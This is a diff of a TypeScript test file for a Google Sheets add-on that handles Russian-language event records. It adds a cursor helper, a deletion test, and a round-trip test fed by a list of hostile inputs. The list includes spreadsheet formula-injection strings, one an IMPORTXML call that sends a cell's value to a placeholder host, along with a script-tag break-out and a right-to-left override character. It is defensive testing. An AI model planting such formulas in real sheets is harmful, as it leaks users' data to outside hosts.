@@ -2,10 +2,11 @@
 
 import {readFileSync} from 'node:fs';
 import fc from 'fast-check';
+import {select} from '../../local/book/focus';
 import {createHost, type Host} from '../../local/host';
 import type {Cells, Form, SaveAnswer, SaveRequest} from '../../src/contract';
 import type {TableName} from '../../src/model/schema';
-import {ask, peopledBook, type Person} from '../rights/people';
+import {ask, PEOPLE, peopledBook, type Person} from '../rights/people';
 import {columnOf, holdLock, onSheet, put, valuesOf} from './small-book';
 
 const host = peopledBook();
@@ -43,6 +44,12 @@ function saved(...asked: Parameters<typeof save>) {
   const answer = save(...asked);
   if (answer.state !== 'saved') throw new Error(JSON.stringify(answer));
   return answer;
+}
+
+/** The coordinator puts the cursor into a row of a sheet. */
+function point(sheet: string, row: number): void {
+  const area = {row: row - 1, column: 2, rows: 1, columns: 1};
+  select(host.book.sheetByName(sheet)!, [area], PEOPLE.coordinator);
 }
 
 const events = () => valuesOf(host, 'Мероприятия');
@@ -158,6 +165,31 @@ test('A formula in a field that was left alone stays', () => {
   expect(formulas).toContain('=1+1');
 });
 
+test('A record with a formula, and with a spelling that is mended by the way, is deleted whole', () => {
+  const {code} = saved(open('events'), {title: 'На час', period: '2024'});
+  const row = columnOf(host, 'Мероприятия', 'Код').indexOf(code) + 2;
+  put(host, 'Мероприятия', row, {Формат: 'Очный '});
+  onSheet(
+    host,
+    'Мероприятия',
+    (sheet, at) => {
+      const link = sheet.createTextFinder('Ссылка').findNext()!.getColumn();
+      sheet
+        .getRange(at, link)
+        .setNumberFormat('0')
+        .setFormula('="http://a.ru"');
+    },
+    row,
+  );
+  const {cells} = open('events', code);
+  const request = {token: 'whole', table: 'events', code, opened: cells};
+  expect(ask(host, 'coordinator', 'deleteRecord', request).state).toBe('saved');
+  const [header, ...rows] = events();
+  const visible = header.indexOf('Учреждение · код');
+  const left = rows[row - 2]?.slice(0, visible) ?? [];
+  expect(left.every(cell => cell === '')).toBe(true);
+});
+
 test('A busy book: the form keeps its text and may ask again', () => {
   const free = holdLock(host);
   const answer = save(open('events'), {title: 'Подождёт', period: '2024'});
@@ -172,12 +204,7 @@ test('A row without a code gets one when its form is opened, and is saved by it'
     'Форма и название мероприятия': 'Вставлено мимо',
     'Дата проведения': '2024',
   });
-  onSheet(
-    host,
-    'Мероприятия',
-    (sheet, at) => void sheet.getRange(at, 3).activate(),
-    row,
-  );
+  point('Мероприятия', row);
   const answer = ask(host, 'coordinator', 'openForm', {});
   if (answer.state !== 'form') throw new Error(JSON.stringify(answer));
   const {form} = answer;
@@ -188,7 +215,7 @@ test('A row without a code gets one when its form is opened, and is saved by it'
 
 test('The cursor on a page of the add-on, or on a header, is told', () => {
   const at = (sheet: string) => {
-    onSheet(host, sheet, one => void one.getRange(1, 1).activate());
+    point(sheet, 1);
     return ask(host, 'coordinator', 'openForm', {});
   };
   expect(at('Баллы')).toMatchObject({
@@ -269,36 +296,40 @@ test('A register is searched as the book knows its names', () => {
   });
 });
 
+const HOSTILE = [
+  '=IMPORTXML("http://x?"&A1)',
+  '+1',
+  '-2+3',
+  '@x',
+  "'",
+  "''007",
+  '007',
+  '1E5',
+  'ИСТИНА',
+  '6-11',
+  '12.10.2022',
+  '</script><b>',
+  '🎓\u202eа',
+  'а\tб',
+];
+
 test('Any text reads back as it was typed, but for spaces', () => {
-  const form = open('events');
-  const hostile = fc.oneof(
-    fc.constantFrom(
-      '=IMPORTXML("http://x?"&A1)',
-      '+1',
-      '-2+3',
-      '@x',
-      "'",
-      "''007",
-      '007',
-      '1E5',
-      'ИСТИНА',
-      '6-11',
-      '</script><b>',
-      '🎓',
-      '12.10.2022',
-    ),
-    fc.string({minLength: 1, unit: 'binary'}),
-  );
-  const {code} = saved(form, {title: 'Тексты', period: '2024'});
-  fc.assert(
-    fc.property(hostile, note => {
-      const {cells} = saved(open('events', code), {note});
-      expect(open('events', code).cells).toEqual(cells);
-      const bare = (text: unknown) => String(text).replace(/\s|\p{Cf}/gu, '');
-      expect(bare(cells.note)).toBe(bare(note));
-    }),
-    {numRuns: 15},
-  );
+  const fields = ['aim', 'tasks', 'audience', 'essence', 'activities', 'note'];
+  const random = fc.sample(fc.string({minLength: 1, unit: 'binary'}), {
+    seed: 7,
+    numRuns: 10,
+  });
+  const texts = [...HOSTILE, ...random];
+  const {code} = saved(open('practices'), {title: 'Тексты'});
+  const bare = (text: unknown) => String(text).replace(/\s|\p{Cf}/gu, '');
+  for (let at = 0; at < texts.length; at += fields.length) {
+    const typed = Object.fromEntries(
+      fields.map((key, i) => [key, texts[at + i] ?? '']),
+    );
+    const {cells} = saved(open('practices', code), typed);
+    expect(open('practices', code).cells).toEqual(cells);
+    for (const key of fields) expect(bare(cells[key])).toBe(bare(typed[key]));
+  }
 });
 
 test('The menu opens the form with what was chosen', () => {
